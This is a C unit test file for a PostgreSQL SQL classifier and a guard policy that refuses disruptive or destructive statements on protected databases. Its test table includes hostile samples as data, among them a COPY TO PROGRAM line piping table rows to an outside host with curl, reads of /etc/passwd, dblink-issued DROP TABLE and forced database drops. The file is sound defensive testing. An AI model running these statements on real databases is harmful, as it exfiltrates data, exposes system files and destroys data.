/* Unit tests for core/sql/classify.c, the SQL classifier, and for the
 * decisions the guard policy takes on SQL about to run on a database
 * (eng__policy_sql in core/run/policy.c).
 *
 * The classifier's table: each row is an attempt the guards must see
 * (a function with a side effect, an unknown function, DO/CALL, a
 * statement naming its own database, maintenance that is really
 * disruptive, text that does not parse) or its benign twin, which must
 * stay a read or maintenance; the expectation is the classification
 * rendered as one line:
 *   CLASS ro=CLASS_READ_ONLY here=CLASS_HERE [db=NAME:CLASS,...]
 *   [no_txn=N/STATEMENTS] [unverified]
 * Then the policy's table: SQL on a protected database, with and without
 * the step's allow_disruptive, guards.unverified_commands, ownership. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "sql/sql.h"
#include "state/state.h"
#include "unit.h"

/* ---- the classifier ------------------------------------------------------ */

typedef struct crow {
  const char *sql;
  const char *want;
} crow;

static const crow crows[] = {
    /* functions with side effects, anywhere in the tree, and their twins */
    {"SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = 'portal'",
     "disruptive ro=disruptive here=disruptive"},
    {"SELECT pid, state, query FROM pg_stat_activity WHERE datname = 'portal'",
     "read ro=read here=read"},
    {"SELECT 1 FROM generate_series(1, 3) g WHERE pg_cancel_backend(g)",
     "disruptive ro=disruptive here=disruptive"},
    {"SELECT pg_backend_pid()", "read ro=read here=read"},
    {"SELECT lo_unlink(42)", "destructive ro=destructive here=destructive"},
    {"SELECT lo_get(42) IS NOT NULL AS ok", "read ro=read here=read"},
    {"SELECT lo_import('/etc/passwd')", "write ro=write here=write"},
    {"SELECT lo_export(42, '/tmp/x')", "destructive ro=destructive here=destructive"},
    {"SELECT count(*) FROM pg_largeobject_metadata", "read ro=read here=read"},
    {"SELECT pg_drop_replication_slot('drill')", "destructive ro=destructive here=destructive"},
    {"SELECT pg_create_logical_replication_slot('s', 'pgoutput')", "write ro=write here=write"},
    {"SELECT slot_name, active FROM pg_replication_slots", "read ro=read here=read"},
    {"SELECT pg_reload_conf()", "disruptive ro=disruptive here=disruptive"},
    {"SELECT pg_rotate_logfile()", "disruptive ro=disruptive here=disruptive"},
    {"SELECT current_setting('work_mem')", "read ro=read here=read"},
    {"SELECT pg_promote()", "disruptive ro=disruptive here=disruptive"},
    {"SELECT pg_is_in_recovery()", "read ro=read here=read"},
    {"SELECT pg_switch_wal()", "disruptive ro=disruptive here=disruptive"},
    {"SELECT pg_current_wal_lsn(), pg_walfile_name(pg_current_wal_lsn())", "read ro=read here=read"},
    {"SELECT pg_create_restore_point('before-drill')", "write ro=write here=write"},
    {"SELECT set_config('search_path', 'evil', false)", "write ro=write here=write"},
    {"SELECT pg_catalog.set_config('search_path', 'x', $1)", "write ro=write here=write"},
    {"SELECT set_config('statement_timeout', '5s', true)", "read ro=read here=read"},
    {"SELECT nextval('order_id_seq')", "write ro=write here=write"},
    {"SELECT setval('order_id_seq', 1)", "write ro=write here=write"},
    {"SELECT last_value FROM order_id_seq", "read ro=read here=read"},
    {"SELECT pg_advisory_lock(72707369)", "disruptive ro=disruptive here=disruptive"},
    {"SELECT pg_try_advisory_lock(72707369)", "disruptive ro=disruptive here=disruptive"},
    {"SELECT pg_try_advisory_xact_lock(72707369)", "read ro=read here=read"},
    {"SELECT pg_advisory_unlock_all()", "read ro=read here=read"},
    {"SELECT pg_read_file('/etc/passwd')", "disruptive ro=disruptive here=disruptive"},
    {"SELECT * FROM pg_ls_dir('pg_wal')", "disruptive ro=disruptive here=disruptive"},
    {"SELECT pg_database_size(current_database()), pg_size_pretty(1024)", "read ro=read here=read"},
    {"SELECT pg_stat_reset()", "write ro=write here=write"},
    {"SELECT pg_notify('cache', 'flush')", "write ro=write here=write"},
    /* SQL run elsewhere or from text, unknown functions, DO, CALL */
    {"SELECT dblink_exec('dbname=portal', 'DROP TABLE account')",
     "write ro=write here=write unverified"},
    {"SELECT * FROM dblink('dbname=portal', 'SELECT 1') AS t(x int)",
     "write ro=write here=write unverified"},
    {"SELECT query_to_xml('DELETE FROM account RETURNING *', true, false, '')",
     "write ro=write here=write unverified"},
    {"SELECT format('%s rows', count(*)), coalesce(max(id), 0), now() FROM account",
     "read ro=read here=read"},
    {"SELECT wipe_everything()", "write ro=read here=write unverified"},
    {"SELECT app.pg_terminate_backend(1)", "write ro=read here=write unverified"},
    {"SELECT upper(name), length(name) FROM account", "read ro=read here=read"},
    {"DO $$ BEGIN PERFORM pg_sleep(0); END $$", "write ro=read here=write unverified"},
    {"CALL archive_old_orders(30)", "write ro=read here=write unverified"},
    {"EXECUTE prepared_wipe", "write ro=read here=write unverified"},
    {"PREPARE q AS DELETE FROM account", "read ro=read here=read"},
    {"COPY account TO PROGRAM 'curl -d @- http://example'",
     "destructive ro=destructive here=destructive unverified"},
    {"COPY account TO STDOUT", "read ro=read here=read"},
    {"COPY account TO '/tmp/account.csv'", "destructive ro=destructive here=destructive"},
    {"COPY account FROM STDIN", "write ro=read here=write"},
    /* text that does not parse (garbage, PostgreSQL 16+ syntax) is never a read */
    {"SELEC 1", "write ro=read here=write unverified"},
    {"SELECT 1 WHERE '{}' IS JSON", "write ro=read here=write unverified"},
    {"SELECT 1", "read ro=read here=read"},
    {"", "read ro=read here=read"},
    {"-- only a comment", "read ro=read here=read"},
    /* statements naming their own database */
    {"ALTER DATABASE skymoney RENAME TO skymoney_old",
     "destructive ro=read here=read db=skymoney:destructive"},
    {"SELECT datname FROM pg_database WHERE datname = 'skymoney'", "read ro=read here=read"},
    {"ALTER DATABASE \"SkyMoney\" SET work_mem = '64MB'",
     "write ro=read here=read db=SkyMoney:write"},
    {"ALTER DATABASE skymoney WITH ALLOW_CONNECTIONS false",
     "disruptive ro=read here=read db=skymoney:disruptive"},
    {"ALTER DATABASE skymoney SET TABLESPACE slow",
     "disruptive ro=read here=read db=skymoney:disruptive no_txn=1/1"},
    {"ALTER DATABASE skymoney OWNER TO app", "write ro=read here=read db=skymoney:write"},
    {"DROP DATABASE IF EXISTS skymoney WITH (FORCE)",
     "destructive ro=read here=read db=skymoney:destructive no_txn=1/1"},
    {"CREATE DATABASE drill_1 TEMPLATE skymoney",
     "creates ro=read here=read db=drill_1:creates,skymoney:read no_txn=1/1"},
    {"REINDEX DATABASE skymoney", "disruptive ro=read here=read db=skymoney:disruptive no_txn=1/1"},
    {"REINDEX DATABASE CONCURRENTLY skymoney",
     "maintenance ro=read here=read db=skymoney:maintenance no_txn=1/1"},
    {"GRANT CONNECT ON DATABASE skymoney TO app", "write ro=read here=read db=skymoney:write"},
    {"SELECT pg_terminate_backend(pid) FROM pg_stat_activity; DROP DATABASE skymoney",
     "destructive ro=disruptive here=disruptive db=skymoney:destructive no_txn=1/2"},
    /* maintenance and what only looks like it */
    {"VACUUM ANALYZE account", "maintenance ro=read here=maintenance no_txn=1/1"},
    {"VACUUM (FULL) account", "disruptive ro=read here=disruptive no_txn=1/1"},
    {"VACUUM FULL", "disruptive ro=read here=disruptive no_txn=1/1"},
    {"VACUUM (FULL false, ANALYZE) account", "maintenance ro=read here=maintenance no_txn=1/1"},
    {"ANALYZE account", "maintenance ro=maintenance here=maintenance"},
    {"CLUSTER account USING account_pkey", "disruptive ro=disruptive here=disruptive"},
    {"REINDEX TABLE account", "disruptive ro=disruptive here=disruptive"},
    {"REINDEX TABLE CONCURRENTLY account", "maintenance ro=read here=maintenance no_txn=1/1"},
    {"REINDEX (CONCURRENTLY) INDEX account_pkey", "maintenance ro=read here=maintenance no_txn=1/1"},
    {"CREATE INDEX account_balance ON account (balance)", "write ro=read here=write"},
    {"CREATE INDEX CONCURRENTLY account_balance ON account (balance)",
     "maintenance ro=read here=maintenance no_txn=1/1"},
    {"REFRESH MATERIALIZED VIEW totals", "disruptive ro=read here=disruptive"},
    {"REFRESH MATERIALIZED VIEW CONCURRENTLY totals", "maintenance ro=read here=maintenance"},
    {"LOCK TABLE account IN ACCESS EXCLUSIVE MODE", "disruptive ro=disruptive here=disruptive"},
    {"ALTER SYSTEM SET work_mem = '1GB'", "disruptive ro=read here=disruptive no_txn=1/1"},
    {"SHOW work_mem", "read ro=read here=read"},
    {"CHECKPOINT", "maintenance ro=maintenance here=maintenance"},
    {"VACUUM account; VACUUM note", "maintenance ro=read here=maintenance no_txn=2/2"},
    {"VACUUM account; SELECT 1", "maintenance ro=read here=maintenance no_txn=1/2"},
    /* writes, hidden and plain */
    {"WITH d AS (DELETE FROM account RETURNING *) SELECT count(*) FROM d",
     "destructive ro=read here=destructive"},
    {"WITH x AS (SELECT 1 AS n) SELECT n FROM x", "read ro=read here=read"},
    {"EXPLAIN ANALYZE DELETE FROM account", "destructive ro=read here=destructive"},
    {"EXPLAIN DELETE FROM account", "read ro=read here=read"},
    {"EXPLAIN ANALYZE SELECT pg_terminate_backend(1)", "disruptive ro=disruptive here=disruptive"},
    {"UPDATE account SET balance = 0", "write ro=read here=write"},
    {"INSERT INTO account VALUES (1, 2) RETURNING nextval('s')", "write ro=write here=write"},
    {"DELETE FROM account", "destructive ro=read here=destructive"},
    {"TRUNCATE account", "destructive ro=read here=destructive"},
    {"DROP TABLE account", "destructive ro=read here=destructive"},
    {"ALTER TABLE account DROP COLUMN balance", "destructive ro=read here=destructive"},
    {"ALTER TABLE account ADD COLUMN note text", "write ro=read here=write"},
    {"SELECT * INTO copy_of_account FROM account", "write ro=read here=write"},
    {"CREATE VIEW v AS SELECT pg_terminate_backend(1)", "write ro=read here=write"},
    {"BEGIN; SELECT 1; COMMIT", "read ro=read here=read"},
    {"BEGIN; PREPARE TRANSACTION 'held'", "disruptive ro=disruptive here=disruptive"},
    {"ROLLBACK PREPARED 'theirs'", "destructive ro=read here=destructive no_txn=1/1"},
    {"SET statement_timeout = '5s'; SELECT 1", "read ro=read here=read"},
    {"SELECT extract(year FROM now()), 'x' AT TIME ZONE 'UTC', trim(both FROM ' x ')",
     "read ro=read here=read"},
    {"SELECT count(*) FILTER (WHERE balance > 1), string_agg(id::text, ',') FROM account",
     "read ro=read here=read"},
    {"SELECT c.relname FROM pg_catalog.pg_class c WHERE pg_catalog.pg_table_is_visible(c.oid)",
     "read ro=read here=read"},
};

static char *render(const eng__sql_info *in) {
  eng__buf b = {0};
  eng__buf_addf(&b, "%s ro=%s here=%s", eng__sql_class_name(in->cls),
                eng__sql_class_name(in->cls_ro), eng__sql_class_name(in->here));
  for (size_t i = 0; i < in->n_dbs; i++)
    eng__buf_addf(&b, "%s%s:%s", i ? "," : " db=", in->dbs[i].name,
                  eng__sql_class_name(in->dbs[i].cls));
  if (in->n_no_txn) eng__buf_addf(&b, " no_txn=%zu/%zu", in->n_no_txn, in->n_stmts);
  if (in->unverified) eng__buf_adds(&b, " unverified");
  return eng__buf_steal(&b);
}

static void test_classifier_table(void **state) {
  (void)state;
  size_t bad = 0;
  for (size_t i = 0; i < sizeof crows / sizeof *crows; i++) {
    eng__sql_info in;
    int rc = eng__sql_classify(crows[i].sql, &in);
    char *got = render(&in);
    if (strcmp(got, crows[i].want) || rc != (in.unverified ? 1 : 0)) {
      print_error("%s\n  want: %s\n  got:  %s%s%s\n", crows[i].sql, crows[i].want, got,
                  in.unverified ? " -- " : "", in.unverified ? in.unverified : "");
      bad++;
    }
    free(got);
    eng__sql_info_free(&in);
  }
  print_message("%zu SQL texts classified\n", sizeof crows / sizeof *crows);
  assert_int_equal(bad, 0);
}

/* What stands behind a class, and where each statement is. */
static void test_what_and_statements(void **state) {
  (void)state;
  const char *sql = "SELECT 1;  VACUUM FULL account ; SELECT pg_cancel_backend(7)";
  eng__sql_info in;
  eng__sql_classify(sql, &in);
  assert_int_equal(in.n_stmts, 3);
  assert_string_equal(in.what, "VACUUM FULL");
  assert_string_equal(in.what_ro, "pg_cancel_backend()");
  assert_int_equal(in.stmts[1].no_txn, true);
  assert_string_equal(in.stmts[2].what, "pg_cancel_backend()");
  char one[64];
  snprintf(one, sizeof one, "%.*s", (int)in.stmts[1].len, sql + in.stmts[1].off);
  assert_string_equal(one, "VACUUM FULL account");
  assert_string_equal(in.no_txn_what, "VACUUM FULL");
  assert_null(in.writes_what);
  json_t *j = eng__sql_info_json(&in);
  assert_string_equal(json_string_value(json_object_get(j, "class")), "disruptive");
  assert_int_equal(json_integer_value(json_object_get(j, "side")), ENG_SIDE_DISRUPTIVE);
  assert_int_equal(json_array_size(json_object_get(j, "statements")), 3);
  json_decref(j);
  eng__sql_info_free(&in);
  /* a write counts as destructive for the guards; maintenance is its own */
  assert_int_equal(eng__sql_side(ENG__SQL_WRITE), ENG_SIDE_DESTRUCTIVE);
  assert_int_equal(eng__sql_side(ENG__SQL_MAINTENANCE), ENG_SIDE_MAINTENANCE);
  assert_int_equal(eng__sql_side(ENG__SQL_CREATES), ENG_SIDE_CREATES);
  /* the text that does not parse says why */
  eng__sql_classify("SELECT 1 WHERE '{}' IS JSON", &in);
  assert_non_null(strstr(in.unverified, "does not parse as PostgreSQL 15"));
  assert_int_equal(in.n_stmts, 0);
  eng__sql_info_free(&in);
}

/* ---- the policy on SQL about to run ------------------------------------- */

static char dir[4096];
static eng__runbook *rb;

typedef struct prow {
  const char *name;
  const char *database, *evidence, *sql;
  bool read_only;
  const char *step; /* "plain" or "opted" (allow_disruptive: true) */
  bool refuse_unverified, allow_destructive;
  bool refused;
  const char *rule;  /* of the refusal, or of the last decision */
  const char *says;  /* in the refusal, or the last pass's note */
} prow;

#define PORTAL "127.0.0.1:5432/portal"
#define PG "127.0.0.1:5432/postgres"
#define LISTS "{\"protected_databases\": [\"portal\", \"skymoney\", \"postgres\"," \
              " \"sysid:7291047362113839104\"]}"

static const prow prows[] = {
    {"VACUUM ANALYZE on a protected database", PORTAL, NULL, "VACUUM ANALYZE account", false,
     "plain", .rule = "protected_databases", .says = "maintenance: VACUUM (maintenance)"},
    {"ANALYZE in a read-only query", PORTAL, NULL, "ANALYZE account", true, "plain",
     .rule = "protected_databases", .says = "maintenance"},
    {"CREATE INDEX CONCURRENTLY", PORTAL, NULL, "CREATE INDEX CONCURRENTLY i ON account (id)",
     false, "plain", .rule = "protected_databases", .says = "maintenance"},
    {"VACUUM FULL refused", PORTAL, NULL, "VACUUM FULL account", false, "plain",
     .allow_destructive = true, .refused = true, .rule = "protected_databases",
     .says = "the step runs VACUUM FULL (disruptive); nothing was done (a disruptive use is "
             "allowed only when the step says allow_disruptive: true)"},
    {"VACUUM FULL with allow_disruptive", PORTAL, NULL, "VACUUM FULL account", false, "opted",
     .rule = "protected_databases", .says = "allowed by the step's allow_disruptive: true"},
    {"CLUSTER refused", PORTAL, NULL, "CLUSTER account", false, "plain", .refused = true,
     .rule = "protected_databases", .says = "CLUSTER (disruptive)"},
    {"plain REINDEX refused", PORTAL, NULL, "REINDEX TABLE account", false, "plain",
     .refused = true, .rule = "protected_databases", .says = "REINDEX (disruptive)"},
    {"pg_terminate_backend in a read-only query", PORTAL, NULL,
     "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", true, "plain", .refused = true,
     .rule = "protected_databases", .says = "pg_terminate_backend() (disruptive)"},
    {"lo_unlink in a read-only query", PORTAL, NULL, "SELECT lo_unlink(42)", true, "plain",
     .allow_destructive = true, .refused = true, .rule = "protected_databases",
     .says = "lo_unlink() (destructive); nothing was done (protection cannot be overridden"},
    {"allow_disruptive does not allow destruction", PORTAL, NULL, "SELECT lo_unlink(42)", true,
     "opted", .allow_destructive = true, .refused = true, .rule = "protected_databases"},
    {"a read", PORTAL, NULL, "SELECT count(*) FROM account", true, "plain",
     .rule = "protected_databases", .says = "read-only use"},
    {"UPDATE with writes allowed", PORTAL, NULL, "UPDATE account SET balance = 0", false,
     "plain", .allow_destructive = true, .refused = true, .rule = "protected_databases",
     .says = "UPDATE (write)"},
    {"UPDATE inside a READ ONLY transaction does nothing", PORTAL, NULL,
     "UPDATE account SET balance = 0", true, "plain", .rule = "protected_databases",
     .says = "read-only use"},
    {"a write to a database the run did not create", "127.0.0.1:5432/staging", NULL,
     "INSERT INTO t VALUES (1)", false, "plain", .refused = true, .rule = "ownership",
     .says = "destructive action (INSERT (write)) on database '127.0.0.1:5432/staging'"},
    {"... with --allow-destructive", "127.0.0.1:5432/staging", NULL, "INSERT INTO t VALUES (1)",
     false, "plain", .allow_destructive = true, .rule = "protected_databases"},
    /* a statement naming its own database */
    {"ALTER DATABASE skymoney RENAME through postgres", "127.0.0.1:5432/drill", NULL,
     "ALTER DATABASE skymoney RENAME TO gone", false, "plain", .allow_destructive = true,
     .refused = true, .rule = "protected_databases",
     .says = "database '127.0.0.1:5432/skymoney' is protected by guards.protected_databases "
             "pattern 'skymoney', and the step runs ALTER DATABASE ... RENAME (destructive)"},
    {"... by the server's identity", "10.0.0.7:5432/postgres", "sysid:7291047362113839104",
     "ALTER DATABASE other RENAME TO gone", false, "plain", .allow_destructive = true,
     .refused = true, .rule = "protected_databases", .says = "'10.0.0.7:5432/other'"},
    {"another database, through protected postgres", PG, NULL,
     "ALTER DATABASE drill SET work_mem = '8MB'", false, "plain", .allow_destructive = true,
     .rule = "protected_databases", .says = "ALTER DATABASE ... SET (write)"},
    {"CREATE DATABASE through protected postgres", PG, NULL, "CREATE DATABASE drill_new",
     false, "plain", .rule = "protected_databases", .says = "CREATE DATABASE (creates)"},
    {"CREATE DATABASE of a protected name", PG, NULL, "CREATE DATABASE skymoney", false,
     "plain", .refused = true, .rule = "protected_databases", .says = "'127.0.0.1:5432/skymoney'"},
    {"TEMPLATE is read", PG, NULL, "CREATE DATABASE drill_2 TEMPLATE skymoney", false, "plain",
     .rule = "protected_databases",
     .says = "read-only use: CREATE DATABASE ... TEMPLATE (copied) (read)"},
    /* what the guards cannot verify */
    {"unknown function, refuse", PORTAL, NULL, "SELECT wipe_everything()", true, "plain",
     .refuse_unverified = true, .refused = true, .rule = "unverified_commands",
     .says = "refused: the guards cannot verify what this SQL does to protected database "
             "'127.0.0.1:5432/portal' (pattern 'portal'): calls wipe_everything(), a function "
             "the guards do not know; guards.unverified_commands is 'refuse'"},
    {"DO block, refuse", PORTAL, NULL, "DO $$ BEGIN END $$", true, "plain",
     .refuse_unverified = true, .refused = true, .rule = "unverified_commands",
     .says = "a DO block"},
    {"dblink, refuse", PORTAL, NULL, "SELECT dblink_exec('dbname=x', 'DROP TABLE t')", true,
     "plain", .refuse_unverified = true, .refused = true, .rule = "protected_databases"},
    {"unknown function, allowed by default", PORTAL, NULL, "SELECT note_count()", true, "plain",
     .rule = "unverified_commands", .says = "unverified on a protected database: calls note_count()"},
    {"unknown function on an unprotected database", "127.0.0.1:5432/scratch", NULL,
     "SELECT note_count()", true, "plain", .refuse_unverified = true,
     .rule = "unverified_commands", .says = "unverified: calls note_count()"},
    {"unknown function with writes allowed", PORTAL, NULL, "SELECT wipe_everything()", false,
     "plain", .allow_destructive = true, .refused = true, .rule = "protected_databases",
     .says = "wipe_everything() (write)"},
    {"text that does not parse, with writes allowed", PORTAL, NULL, "DELET FROM account", false,
     "plain", .allow_destructive = true, .refused = true, .rule = "protected_databases",
     .says = "SQL that does not parse (write)"},
};

static int setup(void **state) {
  (void)state;
  if (unit_tmp_dir("engine-test-sql", dir, sizeof dir) != 0) return -1;
  static const char text[] = "version: 1\nname: t\nsteps:\n"
                             "  - {id: plain, uses: sleep, with: {for: 1ms}}\n"
                             "  - {id: opted, uses: sleep, allow_disruptive: true, with: {for: 1ms}}\n";
  eng__diags d = {0};
  d.quiet = true;
  rb = eng__runbook_parse("t.yaml", text, sizeof text - 1, &d);
  eng__diags_free(&d);
  if (!rb) return -1;
  eng__console_setup(false, -1, false);
  return 0;
}

static int teardown(void **state) {
  (void)state;
  eng__runbook_free(rb);
  eng__rm_tree(dir);
  return 0;
}

static const char *field(json_t *o, const char *k) {
  const char *s = json_string_value(json_object_get(o, k));
  return s ? s : "";
}

static char *check_prow(const prow *w) {
  eng__run_opts o = {0};
  o.allow_destructive = w->allow_destructive;
  eng__run r;
  eng__run_init(&r, rb, NULL, &o, "sql-test");
  r.dir = eng__xstrdup(dir);
  r.policy.lists = json_loads(LISTS, 0, NULL);
  r.policy.broken = json_object();
  r.policy.refuse_unverified = w->refuse_unverified;
  int rc = eng__policy_sql(&r, w->step, w->database, w->evidence, w->sql, w->read_only);
  json_t *last = json_array_get(r.guard_log, json_array_size(r.guard_log) - 1);
  char *bad = NULL;
  if (rc != (w->refused ? ENG_ERR_REFUSED : ENG_OK))
    bad = eng__asprintf("returned %s (%s)", eng_err_name(rc),
                        r.last_refusal ? r.last_refusal : "no refusal");
  else if (w->refused && strcmp(field(last, "rule"), w->rule))
    bad = eng__asprintf("rule %s, expected %s (%s)", field(last, "rule"), w->rule, r.last_refusal);
  else if (w->refused && w->says && !strstr(r.last_refusal, w->says))
    bad = eng__asprintf("message '%s' lacks '%s'", r.last_refusal, w->says);
  else if (!w->refused && (!last || strcmp(field(last, "decision"), "pass") ||
                           strcmp(field(last, "rule"), w->rule)))
    bad = eng__asprintf("last decision %s/%s, expected pass/%s", field(last, "decision"),
                        field(last, "rule"), w->rule);
  else if (!w->refused && w->says && !strstr(field(last, "message"), w->says))
    bad = eng__asprintf("pass noted '%s', expected '%s'", field(last, "message"), w->says);
  eng__run_free(&r);
  return bad;
}

static void test_policy_table(void **state) {
  (void)state;
  size_t failed = 0;
  for (size_t i = 0; i < sizeof prows / sizeof *prows; i++) {
    char *bad = check_prow(&prows[i]);
    if (bad) {
      print_error("row %zu (%s): %s\n", i, prows[i].name, bad);
      failed++;
    }
    free(bad);
  }
  print_message("%zu SQL policy rows checked\n", sizeof prows / sizeof *prows);
  assert_int_equal(failed, 0);
}

/* SQL as a step's target before the run (ENG_TARGET_SQL): the databases
 * it names are held to it by name, forbidden commands apply. */
static void test_sql_target(void **state) {
  (void)state;
  eng__run_opts o = {0};
  eng__run r;
  eng__run_init(&r, rb, NULL, &o, "sql-test");
  r.dir = eng__xstrdup(dir);
  r.policy.lists = json_loads(LISTS, 0, NULL);
  r.policy.broken = json_object();
  r.static_check = true;
  assert_int_equal(eng__policy_check(&r, "plain", ENG_TARGET_SQL,
                                     "ALTER DATABASE skymoney RENAME TO x", NULL,
                                     ENG_SIDE_DESTRUCTIVE), ENG_ERR_REFUSED);
  assert_non_null(strstr(r.last_refusal, "database 'skymoney'"));
  assert_int_equal(eng__policy_check(&r, "plain", ENG_TARGET_SQL,
                                     "ALTER DATABASE drill RENAME TO x", NULL,
                                     ENG_SIDE_DESTRUCTIVE), ENG_OK);
  assert_int_equal(eng__policy_check(&r, "plain", ENG_TARGET_SQL,
                                     "SELECT 'prisma migrate reset'", NULL,
                                     ENG_SIDE_READ_ONLY), ENG_ERR_REFUSED);
  assert_non_null(strstr(r.last_refusal, "forbidden 'prisma migrate reset'"));
  eng__run_free(&r);
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_classifier_table),
      cmocka_unit_test(test_what_and_statements),
      cmocka_unit_test(test_policy_table),
      cmocka_unit_test(test_sql_target),
  };
  return cmocka_run_group_tests(tests, setup, teardown);
}
